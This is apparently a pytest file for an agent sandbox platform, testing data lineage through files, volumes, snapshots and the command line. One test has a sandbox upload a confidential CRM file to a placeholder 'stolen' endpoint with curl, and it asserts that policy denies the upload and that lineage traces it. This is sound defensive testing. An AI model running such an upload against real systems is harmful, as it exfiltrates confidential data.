"""What was reached, read and written is traced back and forward through the public surfaces, from a service to a file to
whoever read it, and to whom it was sent."""

import json

import pytest

from coldframe.client.sync import SyncColdframe
from coldframe.contract.errors import GrantMissing, NotFound
from coldframe.contract.lineage import TracedItem
from coldframe.contract.policy import Label, Role
from tests.installation import Installation
from tests.promises.governed import token_of
from tests.promises.test_network_log import API, CRM, RULES, settled
from tests.reachable import Reachable


def traced(client: SyncColdframe, any_id: str, direction: str = "back", *, known: bool = False) -> list[TracedItem]:
    found, after = list[TracedItem](), None
    while True:
        page = client.lineage.trace(any_id, direction, known=known, after=after, limit=3)
        found += page.items
        after = page.next_after
        if after is None:
            return found


@pytest.mark.req("TP.13", "TP.14")
def test_from_a_service_over_a_file_to_who_read_it_and_who_tried_to_send_it(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(RULES)
        with client.sandboxes.create("tracer") as box:
            fetched = box.run_command(f"curl -4sS {CRM} > answer")
            assert fetched.exit_code == 0, fetched.stderr
            settled(box, 1)
        with client.sandboxes.create("tracer") as later:
            read = later.run_command("cat answer")
            sent = later.run_command(f"curl -4sS -m 20 -T answer {API}stolen")
            assert sent.exit_code != 0
            settled(later, 1)
        (crm,) = client.lineage.list(endpoint="other.example.com", agent_id="tracer").items
        assert crm.origin.endpoint == "tcp:other.example.com:8443"
        assert (crm.origin.method, crm.command_id) == ("GET", fetched.command_id)
        assert (crm.label, crm.session_id) == (Label.CONFIDENTIAL, box.info.session_id)
        (answer,) = client.lineage.list(path="answer", agent_id="tracer").items
        assert [(one.item_id, one.certainty) for one in answer.inputs] == [(crm.item_id, "known")]
        assert answer.made_by == "known"
        assert [one.item.item_id for one in traced(client, answer.item_id, known=True)] == [crm.item_id]
        behind = {one.item.item_id: one for one in traced(client, str(read.command_id))}
        assert behind[answer.item_id].certainty == behind[crm.item_id].certainty == "assumed"
        ahead = [one.item for one in traced(client, crm.item_id, "forward")]
        assert {one.command_id for one in ahead if one.kind == "stdout"} == {read.command_id}
        (stolen,) = [one for one in ahead if one.kind == "contact"]
        assert (stolen.origin.name, stolen.outcome.value) == ("api.example.com", "deny")
        assert all(one.label is Label.CONFIDENTIAL for one in ahead)

    room.use(steps)


def test_the_command_line_and_the_sdk_tell_the_same(installation: Installation, client: SyncColdframe) -> None:
    with client.sandboxes.create("liner") as box:
        box.write_file("a.txt", "alpha")
        box.edit_file("a.txt", "alpha", "beta")
        ran = box.run_command("cat a.txt")
        page = client.lineage.list(sandbox_id=box.id, limit=2)
        assert page.next_after == page.items[-1].number
        every = [*page.items, *client.lineage.list(sandbox_id=box.id, after=page.next_after).items]
        assert [one.kind for one in every] == ["file", "result", "file", "stdout"]
        listed = installation.cli("lineage", "list", "--sandbox", box.id, "--json")
        assert json.loads(listed.stdout) == [one.model_dump(mode="json") for one in every]
        assert b"workspace:liner/a.txt" in installation.cli("lineage", "list", "--agent", "liner").stdout
        shown = installation.cli("lineage", "show", every[2].item_id)
        assert b"edit_file" in shown.stdout and every[2].item_id.encode() in shown.stdout
        for direction, options in (("back", []), ("forward", ["--forward"])):
            told = json.loads(installation.cli("lineage", "trace", every[0].item_id, *options, "--json").stdout)
            assert told["items"] == [one.model_dump(mode="json") for one in traced(client, every[0].item_id, direction)]
        known = installation.cli("lineage", "trace", every[2].item_id, "--known", "--json")
        assert [one["item"]["item_id"] for one in json.loads(known.stdout)["items"]] == [every[0].item_id]
        assert b"generation" in installation.cli("lineage", "trace", str(ran.command_id)).stdout
        assert installation.cli("lineage", "trace", "lin_none").returncode == 4
        with pytest.raises(NotFound):
            client.lineage.get("lin_none")
        with (
            SyncColdframe(installation.url, token_of(client, Role.AGENT, "liner")) as agent,
            pytest.raises(GrantMissing),
        ):
            agent.lineage.list()


@pytest.mark.req("TP.14")
def test_what_passes_through_a_volume_or_a_snapshot_is_traced_and_no_further(
    client: SyncColdframe, agent_id: str
) -> None:
    volume = f"lines-{agent_id}"
    client.volumes.create(volume, size_mib=8)
    with (
        client.sandboxes.create(agent_id, volumes=[{"name": volume, "mode": "rw"}]) as writer,
        client.sandboxes.create(f"{agent_id}-reader", volumes=[{"name": volume}]) as reader,
        client.sandboxes.create(f"{agent_id}-other") as other,
    ):
        made = writer.run_command(f"echo alpha | tee origin > volumes/{volume}/a")
        taken = writer.take_snapshot()
        read = reader.run_command(f"cat volumes/{volume}/a")
        assert read.stdout == "alpha\n"
        late = writer.run_command("echo late > late")
        with client.sandboxes.create(background=True, snapshot=taken.snapshot_id) as fork:
            copied = fork.run_command("cat origin")
        apart = other.run_command("echo apart")
        at_rest = other.run_command("true")
    client.volumes.remove(volume)

    def behind(command_id: str | None) -> set[str | None]:
        return {one.item.command_id for one in traced(client, str(command_id))}

    assert made.command_id in behind(read.command_id) & behind(copied.command_id)
    assert late.command_id not in behind(copied.command_id) | behind(read.command_id)
    assert not {made.command_id, read.command_id, copied.command_id} & behind(at_rest.command_id)
    (origin,) = client.lineage.list(path="origin", agent_id=agent_id).items
    ahead = {one.item.command_id for one in traced(client, origin.item_id, "forward")}
    assert {read.command_id, copied.command_id, late.command_id} <= ahead and apart.command_id not in ahead
    (printed,) = [one for one in client.lineage.list(sandbox_id=reader.id).items if one.command_id == read.command_id]
    assert [one.scope for one in printed.assumed_inputs] == ["session", "workspace", "volume"]
